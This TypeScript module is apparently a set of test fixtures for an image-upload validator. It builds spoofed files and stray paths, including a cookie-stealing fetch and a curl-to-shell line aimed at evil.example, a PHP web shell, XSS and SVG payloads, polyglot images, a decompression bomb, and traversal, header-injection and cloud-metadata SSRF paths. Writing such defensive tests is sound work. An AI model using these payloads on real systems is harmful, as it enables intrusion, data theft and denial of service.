import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'

export type Spoof = { name: string; file: string; type: string; bytes: Buffer }

const canvas = { create: { width: 8, height: 8, channels: 3, background: { r: 204, g: 153, b: 102 } } } as const
const ascii = (text: string): Buffer => Buffer.from(text, 'latin1')
const joined = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? ascii(part) : part)))

export async function honestPictures(): Promise<Spoof[]> {
  const [jpeg, png, webp] = await Promise.all([
    sharp(canvas).jpeg().toBuffer(),
    sharp(canvas).png().toBuffer(),
    sharp(canvas).webp().toBuffer(),
  ])
  return [
    { name: 'JPEG', file: 'tak åäö.jpg', type: 'image/jpeg', bytes: jpeg },
    { name: 'PNG', file: 'tak.png', type: 'image/png', bytes: png },
    { name: 'WebP', file: 'tak.webp', type: 'image/webp', bytes: webp },
    { name: 'a JPEG that is called .png', file: 'tak.png', type: 'image/png', bytes: jpeg },
  ]
}

/** Files that are no honest picture, under names and types that say they are. */
export async function spoofs(): Promise<Spoof[]> {
  const [jpeg, png, webp] = (await honestPictures()).map(({ bytes }) => bytes) as [Buffer, Buffer, Buffer]
  const spoof = (name: string, file: string, type: string, bytes: Buffer | string): Spoof => ({ name, file, type, bytes: joined(bytes) })
  const html = '<!doctype html><script>alert(document.domain)</script>'
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
  const php = '<?php system($_GET["c"]); ?>'
  return [
    spoof('JavaScript as .jpg', 'bild.jpg', 'image/jpeg', 'fetch("https://evil.example/"+document.cookie)'),
    spoof('HTML as .jpg', 'bild.jpg', 'image/jpeg', html),
    spoof('HTML after a line break', 'bild.png', 'image/png', `\r\n\r\n${html}`),
    spoof('SVG as itself', 'logga.svg', 'image/svg+xml', svg),
    spoof('SVG as .jpg', 'logga.jpg', 'image/jpeg', svg),
    spoof('SVG behind an XML declaration', 'logga.png', 'image/png', `<?xml version="1.0"?>${svg}`),
    spoof('PHP as .jpg', 'skal.php.jpg', 'image/jpeg', php),
    spoof('shell script as .png', 'bild.png', 'image/png', '#!/bin/sh\ncurl https://evil.example | sh\n'),
    spoof('Windows program as .jpg', 'bild.jpg', 'image/jpeg', joined('MZ\x90\0\x03', Buffer.alloc(200))),
    spoof('program with a reversed name', 'bild‮gpj.exe', 'image/jpeg', joined('MZ\x90\0\x03', Buffer.alloc(200))),
    spoof('Linux program as .webp', 'bild.webp', 'image/webp', joined('\x7fELF\x02\x01\x01', Buffer.alloc(200))),
    spoof('ZIP as .jpg', 'bild.jpg', 'image/jpeg', zip('a.txt', 'hej')),
    spoof('PDF as .jpg', 'bild.jpg', 'image/jpeg', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF'),
    spoof('GIF as .jpg', 'bild.jpg', 'image/jpeg', joined('GIF89a\x01\0\x01\0\x80\0\0', Buffer.alloc(20))),
    spoof('GIF that is JavaScript', 'bild.jpg', 'image/jpeg', 'GIF89a/*\0\0\0*/=1;alert(1)//;'),
    spoof('BMP as .png', 'bild.png', 'image/png', joined('BM', Buffer.alloc(64))),
    spoof('TIFF as .jpg', 'bild.jpg', 'image/jpeg', joined('II*\0', Buffer.alloc(64))),
    spoof('HEIC as .jpg', 'IMG_1.jpg', 'image/jpeg', joined(Buffer.from([0, 0, 0, 24]), 'ftypheic\0\0\0\0mif1heic', Buffer.alloc(64))),
    spoof('AVIF as .webp', 'bild.webp', 'image/webp', await sharp(canvas).avif().toBuffer()),
    spoof('WAV as .webp', 'bild.webp', 'image/webp', joined('RIFF\x24\0\0\0WAVEfmt ', Buffer.alloc(32))),
    spoof('an empty file', 'bild.jpg', 'image/jpeg', ''),
    spoof('one byte', 'bild.jpg', 'image/jpeg', '\xff'),
    spoof('the first bytes of a JPEG alone', 'bild.jpg', 'image/jpeg', '\xff\xd8\xff'),
    spoof('the first bytes of a JPEG before HTML', 'bild.jpg', 'image/jpeg', `\xff\xd8\xff\xe0${html}`),
    spoof('the first bytes of a PNG alone', 'bild.png', 'image/png', '\x89PNG\r\n\x1a\n'),
    spoof('the first bytes of a PNG before PHP', 'bild.png', 'image/png', `\x89PNG\r\n\x1a\n${php}`),
    spoof('half a JPEG', 'bild.jpg', 'image/jpeg', jpeg.subarray(0, Math.floor(jpeg.length / 2))),
    spoof('half a PNG', 'bild.png', 'image/png', png.subarray(0, png.length - 10)),
    spoof('a WebP that lies about its length', 'bild.webp', 'image/webp', joined(webp, Buffer.alloc(100))),
    spoof('5 MB and one byte of JPEG', 'bild.jpg', 'image/jpeg', joined(jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length))),
    spoof('JPEG and ZIP at once', 'bild.jpg', 'image/jpeg', joined(jpeg, zip('x.sh', 'rm -rf'))),
    spoof('JPEG and PDF at once', 'bild.jpg', 'image/jpeg', withComment(jpeg, '%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>endobj')),
    spoof('JPEG with a script in its comment', 'bild.jpg', 'image/jpeg', withComment(jpeg, `*/=1;</style>${html}`)),
    spoof('JPEG with HTML after its end', 'bild.jpg', 'image/jpeg', joined(jpeg, html)),
    spoof('PNG with PHP in its text', 'bild.png', 'image/png', withChunk(png, 'tEXt', `Comment\0${php}`)),
    spoof('PNG with HTML after its end', 'bild.png', 'image/png', joined(png, html)),
    spoof('PNG with an SVG in its text', 'bild.png', 'image/png', withChunk(png, 'iTXt', `XML\0\0\0\0\0${svg}`)),
    spoof('PNG of 20,000 pixels a side', 'bild.png', 'image/png', hugePng(20_000)),
    spoof('JPEG that says 65,000 pixels', 'bild.jpg', 'image/jpeg', withSize(jpeg, 65_000)),
    spoof('JPEG that says no pixels', 'bild.jpg', 'image/jpeg', withSize(jpeg, 0)),
  ]
}

/** Paths in `images` that name nothing a visitor has uploaded. `id` is the request's own. */
export const strayPaths = (id: string): string[] => [
  `public/quarantine/${id}/finns-inte.jpg`,
  `public/quarantine/${id}/../../../requests/x/request.json`,
  `public/quarantine/${id}/..`,
  `public/quarantine/../../offert-data/requests/${id}/request.json`,
  `requests/${id}/request.json`,
  `public/other/${id}/bild.jpg`,
  `/public/quarantine/${id}/bild.jpg`,
  `public/quarantine/${id}/%2e%2e%2f%2e%2e%2fbild.jpg`,
  `public/quarantine/${id}/bild.jpg\0.exe`,
  `public/quarantine/${id}/bild.jpg\r\nx-amz-acl: public-read`,
  `public\\quarantine\\${id}\\bild.jpg`,
  `https://evil.example/bild.jpg`,
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '',
]

function zip(name: string, content: string): Buffer {
  const data = deflateRawSync(content)
  const sizes = Buffer.alloc(16)
  sizes.writeUInt32LE(crc32(content), 0)
  sizes.writeUInt32LE(data.length, 4)
  sizes.writeUInt32LE(content.length, 8)
  sizes.writeUInt16LE(name.length, 12)
  const local = joined('PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0', sizes, name, data)
  const central = joined('PK\x01\x02\x14\0\x14\0\0\0\x08\0\0\0\0\0', sizes, Buffer.alloc(14), name)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(local.length, 12)
  return joined(local, central, 'PK\x05\x06', end)
}

function withComment(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(text.length + 2)
  return joined(jpeg.subarray(0, 2), '\xff\xfe', length, text, jpeg.subarray(2))
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  const sum = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(joined(type, data)))
  return joined(length, type, data, sum)
}

/** After the header, which is 33 bytes with the signature. */
const withChunk = (png: Buffer, type: string, text: string): Buffer =>
  joined(png.subarray(0, 33), chunk(type, ascii(text)), png.subarray(33))

/** One bit a pixel: 50 MB of zeros in some tens of kilobytes. */
function hugePng(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.writeUInt8(1, 8)
  const pixels = deflateSync(Buffer.alloc((side / 8 + 1) * side), { level: 1 })
  return joined('\x89PNG\r\n\x1a\n', chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)))
}

function withSize(jpeg: Buffer, side: number): Buffer {
  const changed = Buffer.from(jpeg)
  const frame = changed.indexOf('\xff\xc0', 0, 'latin1')
  changed.writeUInt16BE(side, frame + 5)
  changed.writeUInt16BE(side, frame + 7)
  return changed
}
